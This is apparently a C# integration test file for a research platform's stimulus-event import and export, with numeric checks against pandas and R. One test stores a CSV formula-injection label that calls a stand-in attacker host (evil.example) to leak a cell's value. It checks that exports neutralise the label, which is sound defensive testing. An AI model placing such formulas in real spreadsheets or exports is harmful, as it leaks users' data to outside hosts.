using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using EmiPlatform.Api.Recordings;
using EmiPlatform.Api.Tests.Infrastructure;
using EmiPlatform.Testing;

namespace EmiPlatform.Api.Tests;

/// <summary>
/// Stimulus events inside recordings (docs/results.md, "Events"): a scored session recording's events imported from an
/// experiment log, its windows knowing their event, per-event results read by pandas and R and checked against a hand
/// computation from the long export; hostile logs refused whole, listing their rows; events erased with their recording.
/// </summary>
public sealed class EventsTests(ApiFactory api) : IClassFixture<ApiFactory>
{
    private readonly TimelineSeeder seed = new(api);

    // Three stimuli, each after a baseline, as the experiment software's log reduced to the documented columns.
    private const string SessionLog = """
        recording,onset_s,offset_s,kind,stimulus,trial,condition,rt_ms
        session.wav,0,2,baseline,,1,,
        session.wav,2,4,stimulus,joy-01,1,congruent,512
        session.wav,4,6,Baseline,,2,,
        session.wav,6,8,stimulus,amusement-02,2,incongruent,480
        session.wav,8,10,baseline,,3,,
        session.wav,10,11.5,stimulus,joy-03,3,congruent,733

        """;

    private static StringContent Csv(string text) => new(text, Encoding.UTF8, "text/csv");

    [Fact]
    public async Task A_scored_session_gets_its_events_from_a_log_and_per_event_results_that_pandas_and_R_read_and_that_match_the_long_export()
    {
        var (key, _, studyId, participantId) = await Uploads.ParticipantAsync(api);
        var client = api.Client(key);
        var created = await Uploads.PostAsync(client, studyId, participantId, await TestMedia.SessionAsync(), "audio/wav", "?fileName=session.wav");
        var recording = (await created.Content.ReadFromJsonAsync<RecordingDto>(Json.Options))!;
        var job = await WebhookDeliveryTests.WaitForJobAsync(client, studyId);
        Assert.Equal("succeeded", job.GetProperty("state").GetString());

        var imported = await client.PostAsync($"/v1/studies/{studyId}/events/import", Csv(SessionLog));
        Assert.True(imported.StatusCode == HttpStatusCode.OK, await imported.Content.ReadAsStringAsync());
        var summary = await imported.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal((1, 6), (summary.GetProperty("recordings").GetInt32(), summary.GetProperty("events").GetInt32()));
        var events = (await client.GetFromJsonAsync<JsonElement>($"/v1/recordings/{recording.Id}/events")).GetProperty("events").EnumerateArray().ToList();
        Assert.Equal(["baseline", "stimulus", "baseline", "stimulus", "baseline", "stimulus"], events.Select(e => e.GetProperty("kind").GetString()));

        // Windows know their event: the one whose [onset, offset) holds the window's centre; t_rel_s is the centre from its onset.
        var longCsv = await SaveAsync(client, studyId, "long");
        var rows = CsvTestReader.Parse(await File.ReadAllTextAsync(longCsv));
        var h = rows[0];
        int Col(string name) => Array.IndexOf(h, name);
        var windows = rows.Skip(1).Select(r => (Start: D(r[Col("start_s")]), End: D(r[Col("end_s")]), Event: r[Col("event")], Kind: r[Col("event_kind")],
            Stimulus: r[Col("event_stimulus")], TRel: r[Col("t_rel_s")], Joy: (double)float.Parse(r[Col("joy")], CultureInfo.InvariantCulture))).ToList();
        Assert.NotEmpty(windows);
        double[][] spans = [[0, 2], [2, 4], [4, 6], [6, 8], [8, 10], [10, 11.5]];
        foreach (var w in windows)
        {
            var centre = (w.Start + w.End) / 2;
            var at = Array.FindIndex(spans, s => s[0] <= centre && centre < s[1]);
            if (at < 0)
            {
                Assert.Equal(("", "", ""), (w.Event, w.Kind, w.TRel));
                continue;
            }
            Assert.Equal(at.ToString(CultureInfo.InvariantCulture), w.Event);
            Assert.Equal(at % 2 == 0 ? "baseline" : "stimulus", w.Kind);
            Assert.Equal(centre - spans[at][0], D(w.TRel), 1e-9);
        }
        Assert.Contains(windows, w => w.Stimulus == "amusement-02");

        // Per-event results, checked against a hand computation from the long export. Here the scores are read as what
        // they are (float32) and widened, as PostgreSQL's avg does: the same sums to the last bit. pandas and R read the
        // shortest float32 text as float64, which differs in the eighth digit: they agree within 1e-6.
        var eventsCsv = await SaveAsync(client, studyId, "events");
        var results = CsvTestReader.Parse(await File.ReadAllTextAsync(eventsCsv));
        Assert.Equal(7, results.Count);
        var r0 = results[0];
        int R(string name) => Array.IndexOf(r0, name);
        double Mean(int e) => windows.Where(w => w.Event == e.ToString(CultureInfo.InvariantCulture)).Average(w => w.Joy);
        for (var e = 0; e < 6; e++)
        {
            var row = results[1 + e];
            var mine = windows.Where(w => w.Event == e.ToString(CultureInfo.InvariantCulture)).ToList();
            Assert.Equal(mine.Count.ToString(CultureInfo.InvariantCulture), row[R("window_count")]);
            Assert.Equal(Mean(e), D(row[R("joy_mean")]), 1e-9);
            var peak = mine.MaxBy(w => w.Joy);
            Assert.Equal(peak.Joy, (double)float.Parse(row[R("joy_peak")], CultureInfo.InvariantCulture), 1e-12); // a peak is a stored float32
            Assert.Equal(D(peak.TRel), D(row[R("joy_ttp_s")]), 1e-9);
            if (e % 2 == 0)
            {
                Assert.Equal(("", ""), (row[R("baseline_event")], row[R("joy_mean_bc")])); // a baseline is not corrected
            }
            else
            {
                Assert.Equal((e - 1).ToString(CultureInfo.InvariantCulture), row[R("baseline_event")]);
                Assert.Equal(Mean(e) - Mean(e - 1), D(row[R("joy_mean_bc")]), 1e-9);
            }
        }

        var pandas = await ExportCsvTests.RunAsync("/usr/bin/python3", "-c", """
            import json, sys
            import pandas as pd
            ev = pd.read_csv(sys.argv[1])
            lg = pd.read_csv(sys.argv[2])
            means = lg.groupby("event")["joy"].mean()
            stim = ev[ev["event_kind"] == "stimulus"]
            hand = [float(means[e] - means[b]) for e, b in zip(stim["event"], stim["baseline_event"].astype(int))]
            print(json.dumps({"dtypes": {c: str(t) for c, t in ev.dtypes.items()}, "rows": len(ev),
                              "pairs": len(ev.groupby(["participant", "event"])),
                              "bc": [float(x) for x in stim["joy_mean_bc"]], "hand": hand}))
            """, eventsCsv, longCsv);
        var json = JsonDocument.Parse(pandas).RootElement;
        var dtypes = json.GetProperty("dtypes");
        foreach (var column in (string[])["joy_mean", "joy_peak", "joy_ttp_s", "joy_mean_bc", "admiration_mean", "onset_s", "offset_s"])
        {
            Assert.Equal("float64", dtypes.GetProperty(column).GetString());
        }
        Assert.Equal("int64", dtypes.GetProperty("event").GetString());
        Assert.Equal("int64", dtypes.GetProperty("window_count").GetString());
        Assert.Equal(6, json.GetProperty("rows").GetInt32());
        Assert.Equal(6, json.GetProperty("pairs").GetInt32()); // one row per participant × event
        var bc = json.GetProperty("bc").EnumerateArray().Select(x => x.GetDouble()).ToList();
        var hand = json.GetProperty("hand").EnumerateArray().Select(x => x.GetDouble()).ToList();
        Assert.Equal(3, bc.Count);
        Assert.All(bc.Zip(hand), p => Assert.Equal(p.Second, p.First, 1e-6));

        var r = await ExportCsvTests.RunAsync("Rscript", "-e", """
            args <- commandArgs(trailingOnly = TRUE)
            ev <- read.csv(args[1], encoding = "UTF-8")
            lg <- read.csv(args[2], encoding = "UTF-8")
            cls <- sapply(ev, class)
            writeLines(paste0(names(cls), "=", cls))
            writeLines(paste0("rows=", nrow(ev)))
            hand <- mean(lg$joy[which(lg$event == 3)]) - mean(lg$joy[which(lg$event == 2)])
            writeLines(paste0("diff=", format(abs(hand - ev$joy_mean_bc[ev$event == 3]), digits = 3)))
            """, eventsCsv, longCsv);
        var lines = r.Split('\n');
        Assert.Contains("joy_mean=numeric", lines);
        Assert.Contains("joy_mean_bc=numeric", lines);
        Assert.Contains("window_count=integer", lines);
        Assert.Contains("event=integer", lines);
        Assert.Contains("rows=6", lines);
        var diff = Assert.Single(lines, l => l.StartsWith("diff=", StringComparison.Ordinal));
        Assert.True(D(diff[5..]) < 1e-6, diff);

        // Setting the events again (JSON this time) changes what the windows say at once, without a re-score.
        var put = await client.PutAsJsonAsync($"/v1/recordings/{recording.Id}/events",
            new { events = new object[] { new { onset_s = 1.0, duration_s = 3.0, kind = "probe", stimulus = "late" } } });
        Assert.True(put.StatusCode == HttpStatusCode.OK, await put.Content.ReadAsStringAsync());
        var timeline = await client.GetFromJsonAsync<JsonElement>($"/v1/recordings/{recording.Id}/timeline");
        var inside = timeline.GetProperty("windows").EnumerateArray().Where(w => w.GetProperty("event").ValueKind == JsonValueKind.Number).ToList();
        Assert.NotEmpty(inside);
        Assert.All(inside, w => Assert.Equal(("probe", "late"), (w.GetProperty("event_kind").GetString(), w.GetProperty("event_stimulus").GetString())));
        Assert.All(inside, w => Assert.InRange((w.GetProperty("start_s").GetDouble() + w.GetProperty("end_s").GetDouble()) / 2, 1.0, 4.0));
        var jobs = await client.GetFromJsonAsync<JsonElement>($"/v1/studies/{studyId}/jobs");
        Assert.Equal(1, jobs.GetProperty("items").GetArrayLength());

        var perParticipant = await client.GetFromJsonAsync<JsonElement>($"/v1/studies/{studyId}/event-results?participantId={participantId}");
        var only = Assert.Single(perParticipant.GetProperty("events").EnumerateArray());
        Assert.Equal("late", only.GetProperty("event_stimulus").GetString());
        Assert.Equal(JsonValueKind.Null, only.GetProperty("joy_mean_bc").ValueKind);
    }

    [Fact]
    public async Task Hostile_logs_are_refused_whole_listing_each_offending_row_and_formula_labels_are_neutralised_on_export()
    {
        var (tenant, key) = await api.CreateTenantAsync();
        var study = await api.CreateStudyAsync(key);
        var client = api.Client(key);
        var p1 = await seed.ParticipantAsync(tenant.Id, study.Id, "P01");
        var p2 = await seed.ParticipantAsync(tenant.Id, study.Id, "P02");
        var good = await seed.RecordingAsync(tenant.Id, study.Id, p1, "good.mp4"); // 60 s
        await seed.RecordingAsync(tenant.Id, study.Id, p1, "twin.mp4");
        await seed.RecordingAsync(tenant.Id, study.Id, p2, "twin.mp4");
        var bundle = await seed.BundleAsync("ev-" + Guid.NewGuid().ToString("N")[..8], "0.1.0", DateTimeOffset.UtcNow);
        await seed.TimelineAsync(tenant.Id, good, bundle, 40, seed: 3);

        var hostile = """
            recording,participant,onset_s,offset_s,kind,stimulus
            good.mp4,,0,2,baseline,
            good.mp4,,2,4,stimulus,ok
            good.mp4,,"1,5",5,stimulus,comma decimal
            good.mp4,,abc,5,stimulus,word
            good.mp4,,3.5,6,stimulus,overlaps row 3
            good.mp4,,-1,1,stimulus,before start
            good.mp4,,59,61,stimulus,past the end
            good.mp4,,8,7,stimulus,backwards
            good.mp4,,9,10,two words,bad kind
            missing.mp4,,0,1,stimulus,unknown file
            twin.mp4,,0,1,stimulus,ambiguous
            twin.mp4,P02,0,1,stimulus,fine alone

            """;
        var response = await client.PostAsync($"/v1/studies/{study.Id}/events/import", Csv(hostile));
        var problem = await ProblemAssert.IsProblem(response, HttpStatusCode.UnprocessableEntity, "invalid-events");
        var listed = problem.GetProperty("rows").EnumerateArray().ToDictionary(r => r.GetProperty("row").GetInt32(), r => r.GetProperty("message").GetString()!);
        Assert.Equal([4, 5, 6, 7, 8, 9, 10, 11, 12], listed.Keys.Order());
        Assert.Contains("not a number", listed[4]);
        Assert.Contains("not a number", listed[5]);
        Assert.Contains("overlaps row 3", listed[6]);
        Assert.Contains("before the recording's start", listed[7]);
        Assert.Contains("past the recording's end", listed[8]);
        Assert.Contains("not after onset_s", listed[9]);
        Assert.Contains("kind", listed[10]);
        Assert.Contains("no recording", listed[11]);
        Assert.Contains("2 recordings", listed[12]);
        Assert.Equal(9, problem.GetProperty("errorCount").GetInt32());
        // Nothing half-applied: the valid rows of good.mp4 and twin.mp4/P02 were not written either.
        Assert.Equal(0L, await CountEventsAsync(tenant.Id));

        // Many bad rows: the refusal lists a bounded number and counts them all.
        var many = new StringBuilder("recording,onset_s,offset_s\n");
        for (var i = 0; i < 300; i++)
        {
            many.Append("good.mp4,x,1\n");
        }
        problem = await ProblemAssert.IsProblem(await client.PostAsync($"/v1/studies/{study.Id}/events/import", Csv(many.ToString())),
            HttpStatusCode.UnprocessableEntity, "invalid-events");
        Assert.Equal(300, problem.GetProperty("errorCount").GetInt32());
        Assert.Equal(50, problem.GetProperty("rows").GetArrayLength());

        // 100 000 rows are over the documented bound (10 000 per request): refused before any is looked at.
        var huge = new StringBuilder("recording,onset_s,offset_s\n");
        for (var i = 0; i < 100_000; i++)
        {
            huge.Append("good.mp4,").Append(i % 60).Append(',').Append(i % 60 + 0.5).Append('\n');
        }
        await ProblemAssert.IsProblem(await client.PostAsync($"/v1/studies/{study.Id}/events/import", Csv(huge.ToString())),
            HttpStatusCode.RequestEntityTooLarge, "payload-too-large");
        Assert.Equal(0L, await CountEventsAsync(tenant.Id));

        // A formula in a label is stored as typed and neutralised in every CSV, as the export does for names.
        const string formula = "=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")";
        var put = await client.PutAsync($"/v1/recordings/{good}/events",
            Csv($"onset_s,offset_s,kind,stimulus\n0,2,baseline,\n2,4,stimulus,\"{formula.Replace("\"", "\"\"", StringComparison.Ordinal)}\"\n"));
        Assert.True(put.StatusCode == HttpStatusCode.OK, await put.Content.ReadAsStringAsync());
        var stored = await client.GetFromJsonAsync<JsonElement>($"/v1/recordings/{good}/events");
        Assert.Equal(formula, stored.GetProperty("events")[1].GetProperty("stimulus").GetString());
        foreach (var format in (string[])["events", "long"])
        {
            var rows = CsvTestReader.Parse(await client.GetStringAsync($"/v1/studies/{study.Id}/export?format={format}"));
            var at = Array.IndexOf(rows[0], "event_stimulus");
            Assert.Contains(rows, r => r[at] == "'" + formula);
            Assert.DoesNotContain(rows, r => r[at] == formula);
        }

        // Another tenant sees none of it; the events go with their recording.
        var (_, otherKey) = await api.CreateTenantAsync("Other lab");
        Assert.Equal(HttpStatusCode.NotFound, (await api.Client(otherKey).GetAsync($"/v1/recordings/{good}/events")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await api.Client(otherKey).PutAsync($"/v1/recordings/{good}/events", Csv("onset_s,offset_s\n0,1\n"))).StatusCode);
        Assert.Equal(2L, await CountEventsAsync(tenant.Id));
        Assert.Equal(HttpStatusCode.NoContent, (await client.DeleteAsync($"/v1/recordings/{good}")).StatusCode);
        Assert.Equal(0L, await CountEventsAsync(tenant.Id));
    }

    private Task<long> CountEventsAsync(Guid tenantId) =>
        api.Database.ScalarAsync<long>("SELECT count(*) FROM recording_events WHERE tenant_id = $1", tenantId);

    private static async Task<string> SaveAsync(HttpClient client, Guid studyId, string format)
    {
        var response = await client.GetAsync($"/v1/studies/{studyId}/export?format={format}");
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.OK, body);
        var path = Path.Combine(Directory.CreateTempSubdirectory("emi-events-").FullName, $"{format}.csv");
        await File.WriteAllTextAsync(path, body, new UTF8Encoding(false));
        return path;
    }

    private static double D(string text) => double.Parse(text, CultureInfo.InvariantCulture);
}
